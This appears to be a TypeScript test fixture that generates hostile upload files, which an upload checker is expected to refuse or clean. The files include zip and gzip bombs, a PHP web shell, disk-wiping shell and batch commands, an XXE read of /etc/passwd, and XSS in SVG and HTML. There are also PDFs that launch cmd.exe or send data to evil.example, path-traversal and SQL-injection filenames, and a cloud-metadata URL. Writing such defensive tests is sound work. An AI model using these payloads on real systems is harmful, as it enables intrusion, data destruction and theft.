/** Files that nobody should be able to hand in, each made here in code. */
import { deflateSync, gzipSync } from 'node:zlib';
import { strToU8, zipSync, type Zippable } from 'fflate';
import sharp from 'sharp';

export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly bytes: Buffer;
}

const text = (content: string): Buffer => Buffer.from(content, 'latin1');
const MEGABYTE = 1024 * 1024;

const pdf = (body: string): Buffer =>
  text(`%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n${body}\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n`);

const stream = (dictionary: string, content: Buffer): string =>
  `5 0 obj\n<< ${dictionary} /Filter /FlateDecode /Length ${content.length} >>\nstream\n${content.toString('latin1')}\nendstream\nendobj\n`;

const objectStream = (content: string): string => stream('/Type /ObjStm /N 1 /First 4', deflateSync(text(content)));

const zip = (entries: Zippable): Buffer => Buffer.from(zipSync(entries));

function nested(levels: number): Buffer {
  let inner = zip({ 'a.txt': strToU8('x') });
  for (let level = 0; level < levels; level += 1) inner = zip({ 'a.zip': new Uint8Array(inner) });
  return inner;
}

const crcTable = Uint32Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let bit = 0; bit < 8; bit += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function chunk(kind: string, data: Buffer): Buffer {
  const body = Buffer.concat([text(kind), data]);
  let crc = 0xffffffff;
  for (const byte of body) crc = (crcTable[(crc ^ byte) & 0xff] ?? 0) ^ (crc >>> 8);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  check.writeUInt32BE((crc ^ 0xffffffff) >>> 0);
  return Buffer.concat([length, body, check]);
}

function png(width: number, height: number, data: Buffer, extra: readonly Buffer[] = []): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([1, 0, 0, 0, 0], 8);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk('IHDR', head), ...extra, chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))]);
}

/** Says in its frame header that it is so large; the rest is that of a small one. */
function jpegOf(jpeg: Buffer, width: number, height: number): Buffer {
  const changed = Buffer.from(jpeg);
  const at = changed.indexOf(Buffer.from([0xff, 0xc0]));
  changed.writeUInt16BE(height, at + 5);
  changed.writeUInt16BE(width, at + 7);
  return changed;
}

const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$' + 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>';
const PHP = '<?php system($_GET[0]); ?>';
const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4096)]);
const office = (part: string, type: string): Buffer =>
  zip({
    '[Content_Types].xml': strToU8(
      `<Types><Override PartName="/${part}/document.xml" ContentType="application/vnd.${type}.main+xml"/></Types>`,
    ),
    [`${part}/vbaProject.bin`]: new Uint8Array(OLE),
  });

const file = (what: string, name: string, bytes: Buffer | string): HostileFile => ({
  what,
  name,
  bytes: typeof bytes === 'string' ? text(bytes) : bytes,
});

const picture = (format: 'jpeg' | 'png' | 'webp' | 'gif' | 'tiff'): Promise<Buffer> =>
  sharp({ create: { width: 60, height: 40, channels: 3, background: '#884422' } })
    .toFormat(format)
    .toBuffer();

/** Each is to be refused. */
export async function hostileFiles(): Promise<readonly HostileFile[]> {
  const [jpeg, whole, webp, gif, tiff] = await Promise.all(
    (['jpeg', 'png', 'webp', 'gif', 'tiff'] as const).map(picture),
  );
  if (!jpeg || !whole || !webp || !gif || !tiff) throw new Error('A picture was not drawn.');
  const zipBomb = zip({ 'zeros.txt': new Uint8Array(60 * MEGABYTE) });
  const zeros = deflateSync(Buffer.alloc(40 * MEGABYTE));
  const macros = office('word', 'ms-word.document.macroEnabled');
  return [
    file('nothing', 'a.pdf', ''),
    file('nothing, called a photo', 'a.jpg', ''),
    file('11 MB', 'a.pdf', pdf(' '.repeat(11 * MEGABYTE))),
    file('13 MB', 'a.pdf', pdf(' '.repeat(13 * MEGABYTE))),
    file('a Windows program', 'a.exe', `MZ${'\0'.repeat(200)}PE`),
    file('a Windows program called a PDF', 'to-khai.pdf', `MZ${'\0'.repeat(200)}PE`),
    file(
      'a Linux program called a photo',
      'anh.jpg',
      Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(200)]),
    ),
    file(
      'a Java class called a photo',
      'anh.png',
      Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), Buffer.alloc(200)]),
    ),
    file('WebAssembly called a PDF', 'a.pdf', Buffer.from('0061736d01000000', 'hex')),
    file('a shell script', 'a.sh', '#!/bin/sh\nrm -rf /\n'),
    file('a shell script called a PDF', 'a.pdf', '#!/bin/sh\nrm -rf /\n'),
    file('a batch file', 'a.bat', '@echo off\r\ndel /q c:\\\r\n'),
    file('JavaScript', 'a.js', 'alert(1)'),
    file('PHP', 'a.php', PHP),
    file('PHP called a photo, two endings', 'a.php.jpg', PHP),
    file('PHP behind the head of a GIF', 'a.gif', `GIF89a${PHP}`),
    file('an internet shortcut', 'a.url', '[InternetShortcut]\nURL=file://evil.example/x'),
    file('a web page', 'a.html', '<html><script>alert(1)</script></html>'),
    file('a web page called a PDF', 'a.pdf', '<html><script>alert(1)</script></html>'),
    file('a web archive', 'a.mht', 'MIME-Version: 1.0\nContent-Type: multipart/related'),
    file('an SVG with a script', 'a.svg', SVG),
    file('an SVG called a photo', 'a.png', SVG),
    file('an SVG called a PDF', 'a.pdf', SVG),
    file('XML with an external entity', 'a.xml', XXE),
    file('an SVG with an external entity', 'a.jpg', XXE.replace('<x>', '<svg>')),
    file('a Word file with macros', 'a.docm', macros),
    file('a Word file with macros called a PDF', 'a.pdf', macros),
    file('an Excel file with macros', 'a.xlsm', office('xl', 'ms-excel.sheet.macroEnabled')),
    file('an old Word file', 'a.doc', OLE),
    file('an old Excel file called a PDF', 'a.pdf', OLE),
    file('RTF with an object', 'a.rtf', '{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}}'),
    file('PostScript', 'a.ps', '%!PS\n(x) run'),
    file('PostScript called a PDF', 'a.pdf', '%!PS-Adobe-3.0\n%PDF-1.7\n(x) run\nstartxref\n9\n%%EOF'),
    file('a zip', 'a.zip', zip({ 'a.txt': strToU8('x') })),
    file('a zip bomb', 'a.zip', zipBomb),
    file('a zip bomb called a PDF', 'a.pdf', zipBomb),
    file('a zip bomb called a Word file', 'a.docx', zipBomb),
    file('twenty zips in one another', 'a.zip', nested(20)),
    file('a zip that climbs out of its folder', 'a.zip', zip({ '../../../../etc/cron.d/x': strToU8('x') })),
    file('a gzip bomb', 'a.gz', gzipSync(Buffer.alloc(20 * MEGABYTE))),
    file('a gzip bomb called a photo', 'a.jpg', gzipSync(Buffer.alloc(20 * MEGABYTE))),
    file('RAR', 'a.rar', Buffer.concat([text('Rar!\u001a\u0007\u0001\0'), Buffer.alloc(100)])),
    file('7-Zip', 'a.7z', Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(100)])),
    file('a GIF', 'a.gif', gif),
    file('a GIF called a photo', 'a.png', gif),
    file('WebP', 'a.webp', webp),
    file('TIFF', 'a.tif', tiff),
    file('a TIFF called a photo', 'a.jpg', tiff),
    file('a PDF called a photo', 'a.jpg', pdf('')),
    file('a photo called a PDF', 'a.pdf', jpeg),
    file('a PNG called a JPEG', 'a.jpg', whole),
    file('a PDF called a program', 'to-khai.pdf.exe', pdf('')),
    file('a PDF whose name is turned round (RTL override)', 'to-khai\u202efdp.exe', pdf('')),
    file('a PDF without an ending, climbing', '../../../../etc/passwd', pdf('')),
    file('a PDF called .htaccess', '.htaccess', pdf('')),
    file('a PDF with an alternate stream', 'a.pdf::$DATA', pdf('')),
    file('a PNG of 10 billion pixels', 'a.png', png(100_000, 100_000, zeros)),
    file('a PNG of 400 million pixels', 'a.png', png(20_000, 20_000, zeros)),
    file('a PNG of one row of a billion pixels', 'a.png', png(1_000_000_000, 1, zeros)),
    file('a PNG of 2³¹ pixels a side', 'a.png', png(0x7fffffff, 0x7fffffff, zeros)),
    file('a PNG that says more than it holds', 'a.png', png(8000, 8000, deflateSync(Buffer.alloc(10)))),
    file('a PNG whose data is no data', 'a.png', png(100, 100, text('nothing packed'))),
    file('a PNG without data', 'a.png', whole.subarray(0, 60)),
    file('a PNG cut in half', 'a.png', whole.subarray(0, whole.length - 30)),
    file('a JPEG of 4 billion pixels', 'a.jpg', jpegOf(jpeg, 65_500, 65_500)),
    file('a JPEG without width', 'a.jpg', jpegOf(jpeg, 0, 40)),
    file('a JPEG cut in half', 'a.jpg', jpeg.subarray(0, jpeg.length / 2)),
    file('a JPEG of its markers alone', 'a.jpg', Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex')),
    file(
      'a PDF that opens with a script',
      'a.pdf',
      pdf('2 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj'),
    ),
    file('a PDF with a script for its pages', 'a.pdf', pdf('<< /AA << /O << /S /JavaScript >> >> >>')),
    file('a PDF with a script, its name written out', 'a.pdf', pdf('<< /S /J#61v#61Script >>')),
    file('a PDF that starts a program', 'a.pdf', pdf('<< /S /Launch /F (cmd.exe) >>')),
    file('a PDF with a file in it', 'a.pdf', pdf('<< /Names << /EmbeddedFiles << >> >> >>')),
    file('a PDF with a film', 'a.pdf', pdf('<< /Subtype /RichMedia >>')),
    file('a PDF that sends its form away', 'a.pdf', pdf('<< /S /SubmitForm /F (http://evil.example) >>')),
    file('a PDF that fetches data', 'a.pdf', pdf('<< /S /ImportData /F (\\\\evil.example\\x) >>')),
    file('a PDF with an XFA form', 'a.pdf', pdf('<< /AcroForm << /XFA 9 0 R >> >>')),
    file('a PDF with a script in an object stream', 'a.pdf', pdf(objectStream('1 0 << /S /JavaScript >>'))),
    file('a PDF that hides its object stream', 'a.pdf', pdf('<< /Type /Obj#53tm >>')),
    file('object streams that unpack to 60 MB', 'a.pdf', pdf(objectStream(' '.repeat(10 * MEGABYTE)).repeat(6))),
    file('pages that unpack to 400 MB', 'a.pdf', pdf(stream('/Type /XObject', zeros).repeat(10))),
    file('a damaged object stream', 'a.pdf', pdf(stream('/Type /ObjStm', text('nothing packed')))),
    file('a million streams without end', 'a.pdf', pdf('stream\n'.repeat(1_000_000))),
    file('a million names of object streams', 'a.pdf', pdf('/ObjStm '.repeat(1_000_000))),
    file('a PDF with a password', 'a.pdf', pdf('trailer << /Encrypt 3 0 R >>')),
    file('a PDF cut in half', 'a.pdf', pdf('x'.repeat(5000)).subarray(0, 3000)),
    file('a PDF of its first line', 'a.pdf', '%PDF-1.7\n'),
    file(
      'a PDF with a zip behind it',
      'a.pdf',
      Buffer.concat([pdf(''), zip({ 'a.txt': strToU8('x') }), text('%%EOF')]),
    ),
    file('a PDF with a web page in it', 'a.pdf', pdf('<script>alert(document.domain)</script>')),
    file('a PDF with PHP in it', 'a.pdf', pdf(PHP)),
    file('a web page with a PDF in it', 'a.pdf', Buffer.concat([text('<html><!--'), pdf('')])),
    file('EICAR', 'eicar.com', EICAR),
    file('EICAR called a PDF', 'a.pdf', EICAR),
    file('EICAR in a zip called a PDF', 'a.pdf', zip({ 'eicar.com': strToU8(EICAR) })),
  ];
}

/** Taken, but not as they came: what is kept holds neither `traces` nor the name. */
export async function cleanedFiles(): Promise<
  readonly (HostileFile & { readonly traces: readonly string[]; readonly kept: RegExp })[]
> {
  const drawn = sharp({ create: { width: 60, height: 40, channels: 3, background: '#884422' } });
  const exif = { IFD0: { Artist: 'NGUYEN THI HOA', Make: 'May anh' }, IFD3: { GPSLatitudeRef: 'N' } };
  const photo = await drawn.clone().withExif(exif).jpeg().toBuffer();
  const plain = await drawn.clone().jpeg().toBuffer();
  const comment = (content: string): Buffer => {
    const length = Buffer.alloc(2);
    length.writeUInt16BE(content.length + 2);
    return Buffer.concat([plain.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, text(content), plain.subarray(2)]);
  };
  const rows = deflateSync(Buffer.alloc(9 * 40));
  const cleaned = (
    what: string,
    name: string,
    bytes: Buffer,
    traces: readonly string[],
    kept = /^a\.(jpg|png)$/,
  ): HostileFile & { traces: readonly string[]; kept: RegExp } => ({ ...file(what, name, bytes), traces, kept });
  return [
    cleaned('a photo with place and name', 'a.jpg', photo, ['Exif', 'NGUYEN', 'May anh']),
    cleaned('a photo with PHP in its comment', 'a.jpg', comment(PHP), ['<?php']),
    cleaned('a photo with a web page in its comment', 'a.jpg', comment('<script>alert(1)</script>'), ['<script']),
    cleaned('a photo with a zip behind it', 'a.jpg', Buffer.concat([plain, zip({ 'a.txt': strToU8('x') })]), ['PK']),
    cleaned(
      'a PNG with a script in its text',
      'a.png',
      png(60, 40, rows, [chunk('tEXt', text('c\0<script>alert(1)</script>'))]),
      ['tEXt', '<script'],
    ),
    cleaned('a PNG with PHP behind it', 'a.png', Buffer.concat([png(60, 40, rows), text(PHP)]), ['<?php']),
    cleaned('a photo whose name climbs', '../../../etc/a.jpg', plain, [], /^a\.jpg$/),
    cleaned('a photo whose name climbs in Windows', '..\\..\\a.jpg', plain, [], /^a\.jpg$/),
    cleaned('a photo whose name is turned round', 'a\u202egpj.exe.jpg', plain, [], /^agpj\.exe\.jpg$/),
    cleaned('a photo whose name is markup', '<img src=x onerror=alert(1)>.jpg', plain, [], /^[^<>"]+\.jpg$/),
    cleaned(
      'a photo whose name is a query',
      `'; DROP TABLE dossiers; --.jpg`,
      plain,
      [],
      /^'; DROP TABLE dossiers; --\.jpg$/,
    ),
    cleaned('a photo whose name never ends', `${'a'.repeat(2000)}.jpg`, plain, [], /^a{146}\.jpg$/),
    cleaned('a photo whose name is an address', 'http://169.254.169.254/latest/meta-data/a.jpg', plain, [], /^a\.jpg$/),
  ];
}
